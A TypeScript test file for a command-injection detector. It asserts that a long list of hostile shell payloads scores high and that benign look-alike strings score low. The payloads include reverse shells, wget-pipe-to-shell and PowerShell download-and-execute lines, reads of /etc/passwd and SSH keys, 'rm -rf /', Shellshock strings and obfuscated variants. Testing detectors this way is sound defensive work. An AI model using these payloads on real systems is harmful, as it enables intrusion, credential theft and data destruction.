import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { builtinOf, judgeHead, queryWith } from '../testing/judging.ts';

const rules = builtinOf();

function scoreOf(text: string): number {
  return judgeHead(rules, queryWith(text)).score;
}

function labelsOf(text: string): string[] {
  return judgeHead(rules, queryWith(text)).matches.map(({ label }) => label);
}

describe('a command as a value', () => {
  const chained = [
    ...[
      'a|id|',
      'a;id',
      'a|id',
      'a;ls;',
      'net localgroup Administrators hacker /ADD',
      'netsh firewall set opmode disable',
    ],
    ...[
      'reg add HKLM\\x /v y',
      "perl -e 'print 1'",
      'python -c "print(1)"',
      'php -r "echo 1;"',
      'rm -rf x',
      'which netcat',
    ],
    ...[
      'curl https://h/x',
      'wget http://h/x',
      'nc -lvp 80',
      'bash -i',
      'chmod 777 x',
      'echo x > y.php',
      'wmic process list',
      'ping 127.0.0.1',
    ],
    ...[
      ';cat /etc/passwd',
      'x; cat ~/.ssh/id_rsa',
      '127.0.0.1;id',
      '|id',
      '127.0.0.1 && whoami',
      '1| sleep 5',
    ],
    ...[
      '127.0.0.1 || ls -la',
      '127.0.0.1\nid',
      'x & ping -c 10 127.0.0.1',
      '; curl http://host/x',
      '; echo $HOME',
    ],
    ...[
      '; wget https://host/x -O- | sh',
      'x; rm -rf /',
      '& type c:\\windows\\win.ini',
      '| nc -e /bin/sh 10.0.0.1',
    ],
    ...[
      ";c''at /etc/passwd",
      ';c\\at /etc/passwd',
      ';/bin/cat /etc/passwd',
      ';cat</etc/passwd',
      ';{cat,/etc/passwd}',
    ],
    ...[
      'a;/usr/bin/id',
      ';id\\n',
      '`id`',
      'x`sleep 5`',
      '$(id)',
      'x$( whoami )',
      '";id;"',
      "';whoami;'",
      ');id;(',
    ],
    ...[
      'x||ping -i 30 127.0.0.1 ; x || ping -n 30 127.0.0.1 &',
      '& ipconfig /all',
      '| dir C:\\',
      '&systeminfo',
    ],
    ...[
      ';who$@ami',
      ';w\'h\'o"am"i',
      ';cat$IFS/etc/passwd',
      ';cat$' + '{IFS}/etc/passwd',
      ';uname$' + '{IFS}-a',
    ],
    ...[
      '%0Aid',
      '%0a/bin/id%0a',
      '\r\nid\r\n',
      ';netstat -a;',
      '|net user',
      '&&net user hacker pw /add',
      ';env',
      ';ps aux',
    ],
    ...[
      '; nslookup x.example.com',
      '$(nslookup x.example.com)',
      '`curl http://x.example.com/$(whoami)`',
      '|curl x.example.com',
    ],
    ...[
      ';ls -la /',
      '&dir',
      '| ls',
      '|| ls',
      '; ls',
      ';pwd',
      '$(sleep 5)',
      '& sleep 5 &',
      ';sleep$' + '{IFS}9',
      "x' ; sleep 5 #",
    ],
    ...[
      ';perl -e \'print "x"\'',
      ';php -r "phpinfo();"',
      ';python -c "import os"',
      '; bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
    ],
    ...[
      ';echo abc$((12+30))$(echo abc)',
      '|echo 1;sleep 3',
      '&&echo AAA&&set /a 1+2',
      ';reboot',
      ';shutdown -h now',
    ],
    ...[
      '<!--#exec cmd="/bin/cat /etc/passwd"-->',
      ';system("id")',
      '/???/c?t /etc/passwd',
      ';/???/??t$' + '{IFS}/???/p????d',
    ],
    ...[
      '() { :; }; /bin/id',
      '() { _; } >_[$($())] { id; }',
      '() { ignored; }; echo x',
      '() { :;}; echo vulnerable',
    ],
    ...[
      'cat /etc/passwd',
      'ls -la /etc',
      'type C:\\boot.ini',
      'dir C:\\',
      'nc -lvp 4444 -e /bin/sh',
      'ping -n 10 127.0.0.1 &',
    ],
    ...['cmd /c dir', 'cmd.exe /c whoami', 'powershell -enc SQBFAFgA', 'powershell -Command Get-Process'],
    ...[';IEX(New-Object Net.WebClient).DownloadString("http://h/x")', '%COMSPEC% /c dir', 'uname -a'],
    ...["$'\\x63\\x61\\x74' /etc/passwd", '{ls,-la,/}', ';{ls,-la}', "a;wget$IFS-O-$IFS'h'", '&& cat *.php'],
    ...[
      ';for i in $(ls /); do host "$i.x.example.com"; done',
      '&for /f "tokens=*" %i in (\'cmd /c "set /a 1+2"\') do @set /p=%i',
    ],
    ...[
      '; exec /bin/sh',
      ';export X=1;env',
      '|ifconfig',
      '|| ifconfig',
      ';ifconfig;',
      "';netstat -a;'",
      '& nslookup h &',
      '|/bin/ls -al',
    ],
    ...[
      'exec("whoami")',
      "system('cat /etc/passwd')",
      '`/bin/ls`',
      '<?system("id")?>',
      ';id|',
      '|id;',
      '|id|',
    ],
    ...[
      '<%=`id`%>',
      '1;nc 10.0.0.1 4444',
      '$(cat /etc/hostname)',
      'a)|id|(b',
      '| cat /etc/group',
      '() { :;}; wget http://h/x',
    ],
  ];
  for (const text of chained) {
    it(`blocks ${JSON.stringify(text)}`, () => assert.ok(scoreOf(text) >= 5, labelsOf(text).join()));
  }

  const honest = [
    ...[
      'id|name',
      'sort|id',
      'net user',
      'which phone',
      'echo dot > alexa?',
      'python course',
      'bash scripting',
      'a|b|c',
      'S|M|L',
      'x & y',
    ],
    ...[
      'cats; cat people',
      'I like dogs | find a doctor | date',
      'title|id|date',
      'x`wc?a`',
      'caf\xc3\xa9, yes; id',
    ],
    ...[
      "I can't; ls",
      'fields=name;id',
      'Tom & Jerry',
      'You & id',
      'R&D; date night',
      'email me; type 5 letters',
    ],
    ...['sleep; eat & sleep 8 hours', 'more; or less', 'Run `ls -la` to list files', '$(document).ready()'],
    ...[
      'price $5 (sale)',
      'US$ 100',
      'Java; Python; PHP',
      'PHP & Node',
      'a && b || c',
      'x | y',
      'echo; hello',
    ],
    ...[
      'function () { return 1 }',
      'f() {}',
      'template $' + '{name}',
      '$' + '{a ? b : c}',
      '() => { }',
      'a; b; c',
    ],
    ...[
      'first line\nid of the second\n',
      'id',
      'ls',
      'find a doctor',
      'more -information',
      'top 10',
      'host: example.com',
    ],
    ...[
      'AT&T; net income',
      'black & decker',
      'salt|pepper|sort',
      'kill bill; vol. 2',
      'make & model',
      'who is who?',
    ],
    ...[
      'Rock & Roll; route 66',
      'name,-date',
      'sort:-price',
      '-created_at',
      'start|end',
      'date|time',
      'ID; name; type',
    ],
    ...[
      'What is the best time to touch type?',
      'cat food & dog food',
      'node, less, sass',
      'git & svn',
      'more > less',
    ],
    ...[
      'a>b&&c<d',
      'Mac & PC',
      'x;y;z',
      'size:10|color:red',
      'python 3',
      'exec assistant; HR',
      'price>10;sort=asc',
    ],
  ];
  for (const text of honest) {
    it(`leaves ${JSON.stringify(text)}`, () => assert.ok(scoreOf(text) < 5, labelsOf(text).join()));
  }
});
